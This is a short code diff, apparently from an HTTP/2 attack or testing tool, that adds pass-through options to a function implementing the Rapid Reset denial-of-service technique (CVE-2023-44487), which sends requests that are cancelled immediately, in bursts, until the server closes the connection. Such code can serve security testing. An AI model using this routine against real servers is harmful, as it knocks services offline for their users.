@@ -24,7 +24,7 @@ def bursts(write, count: int = BURST):
         yield b"".join(parts)
 
 
-def rapid_reset(attacker: Attacker) -> None:
+def rapid_reset(attacker: Attacker, **how) -> None:
     """CVE-2023-44487: requests that are cancelled in the same breath, so that they never count as
     concurrent."""
     block = frames.request(frames.GET)
@@ -35,7 +35,7 @@ def rapid_reset(attacker: Attacker) -> None:
         for _ in attacker.until_closed(connection):
             connection.send(next(pairs), 2 * BURST)
 
-    attacker.again(attack)
+    attacker.again(attack, **how)
 
 
 def paced_reset(attacker: Attacker) -> None:
